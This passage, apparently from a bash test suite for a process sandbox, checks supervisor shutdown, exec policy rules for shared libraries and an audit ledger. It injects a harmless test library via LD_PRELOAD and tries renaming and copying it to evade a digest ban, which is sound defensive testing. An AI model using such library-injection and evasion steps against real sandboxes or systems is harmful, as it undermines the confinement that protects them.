disown $pid
sleep 1.5
kill -KILL $pid
sleep 0.7
check 'with its supervisor the tool ends' bash -c '! pgrep -f "sleep 30[12]" >/dev/null'

# What is ended from without is no success, whoever sees it: the sandbox's runner, or the supervisor while that one stands still.
for first in runner supervisor; do
	(cd "$work/project" && exec "$P" run -- sleep 303) >"$work/out" 2>"$work/err" &
	pid=$! runner='' killed=''
	for _ in {1..50}; do
		runner=$(pgrep -P $pid | head -n 1)
		[[ $runner ]] && killed=$(pgrep -P "$runner" -f role=gate) && pgrep -f 'sleep 303' >/dev/null && break
		sleep 0.1
	done
	[[ $first == runner ]] || kill -STOP "$runner"
	kill -KILL "$killed"
	wait $pid
	check "without its gate the tool ends, and that is no success: $first" test $? = 125
	check 'and it is said' has err 'the gate has gone'
done

# ── libraries ──
echo 'int main(void) { return 0; }' >"$work/project/true.c" && gcc -o "$work/project/true" "$work/project/true.c"
echo 'int puts(const char *); __attribute__((constructor)) static void begin(void) { puts("library here"); }' >"$work/project/x.c"
gcc -shared -fPIC -o "$work/project/x.so" "$work/project/x.c"
listed() { # RULES: of libraries, where all else that is not the system's is denied
	printf 'exec:\n  default: deny\n  rules:\n    - {path: "/usr/**", verdict: allow}\n    - {path: "/bin/**", verdict: allow}\n%s' "$1" >"$work/config/postern/policy.yaml"
	inside 'LD_PRELOAD=./x.so true; LD_PRELOAD=./x.so /usr/bin/env; python3 -c "import ssl, ctypes; print(\"system\", ctypes.CDLL(\"libz.so.1\") and 1)"'
}
listed ''
check 'a library that no rule permits is not loaded' hasnt out 'library here'
check 'what is the system'"'"'s is, without a rule' has out 'system 1'
listed "    - {digest: $(sha256sum <"$work/project/x.so" | cut -c 1-64), verdict: allow}
"
check 'it is by its digest' has out 'library here'
listed '    - {parent: env, verdict: allow}
'
check 'and by what loads it' test "$(grep -c 'library here' "$work/out")" = 1
echo "exec: {default: allow, rules: [{digest: $(sha256sum <"$work/project/x.so" | cut -c 1-64), verdict: deny}]}" >"$work/config/postern/policy.yaml"
inside 'cp x.so y.so; LD_PRELOAD=./y.so /usr/bin/env; cp x.so /tmp/z.so; LD_PRELOAD=/tmp/z.so /usr/bin/env'
check 'banned by its digest, whatever it is called' hasnt out 'library here'
inside 'truncate -s 3T big && chmod +x big; ./big; python3 -c "
import ctypes
big, libc = open(\"big\"), ctypes.CDLL(None, use_errno=True)
libc.mmap(None, ctypes.c_size_t(4096), 5, 2, big.fileno(), ctypes.c_long(0))
print(\"errno\", ctypes.get_errno())"; rm big'
check 'what is too large to be judged does not run' has err 'File too large'
check 'nor is it loaded' has out 'errno 27'
echo '{}' >"$work/config/postern/policy.yaml"
inside 'LD_PRELOAD=./x.so /usr/bin/env' --learn "$work/learned.yaml"
gate --policy "$work/learned.yaml" -- bash -c 'LD_PRELOAD=./x.so /usr/bin/env; LD_PRELOAD=./y.so /usr/bin/env; echo over'
check 'what was learned permits a library that was loaded' test "$(grep -c 'library here' "$work/out")" = 1
check 'and names none of the system' bash -c "grep -q '/x.so' '$work/learned.yaml' && ! grep -q 'libc.so' '$work/learned.yaml'"

# ── on record ──
"$P" log show --limit 100000 --format json "$work/data/postern/ledger" >"$work/out" 2>"$work/err"
check 'libraries that were denied' test "$(jq -r 'select(.entry.class_uid == 1005 and .entry.action == "Denied") | .entry.module.file.name' "$work/out" | sort -u | tr '\n' ' ')" = 'x.so y.so z.so '
check 'and those that a rule permitted, with what loaded them' test "$(jq -r 'select(.entry.class_uid == 1005 and .entry.action == "Allowed") | .entry.unmapped.postern.run.program' "$work/out" | grep -c '/env$')" -ge 2
"$P" log verify --format json "$work/data/postern/ledger" >"$work/out" 2>"$work/err"
check 'the ledger is good' test $? = 0
"$P" log show --limit 100000 --format json "$work/data/postern/ledger" >"$work/out" 2>"$work/err"
check 'allowed requests' test "$(jq -r 'select(.entry.class_uid == 4002 and .entry.action == "Allowed") | .index' "$work/out" | wc -l)" -ge 60
check 'denied requests' test "$(jq -r 'select(.entry.class_uid == 4002 and .entry.action == "Denied") | .index' "$work/out" | wc -l)" -ge 8
check 'begin before end, of every run that ended' test "$(jq -r 'select(.entry.class_uid == 6002) | .entry.activity_name' "$work/out" | uniq -c | awk '$1 > 2' | wc -l)" = 0
check 'the confinement' test "$(jq -r 'select(.entry.class_uid == 6002) | .entry.unmapped.confinement' "$work/out" | grep -c namespaces)" -ge 20
check 'no query is in it' hasnt out 'q=1'
check 'what was found is in it' test "$(jq -r 'select(.entry.unmapped.postern.gate.found != null) | .index' "$work/out" | wc -l)" -ge 6
check 'but not the secret' hasnt out "$secret"
(cd "$work/project" && "$P" run --ledger /proc/no/ledger -- true) >"$work/out" 2>"$work/err"
check 'without a ledger nothing runs' test $? = 125
check 'and says how it can' has err '--ledger none'

echo "gate: $ok as they should be, $failed not"
((failed == 0))
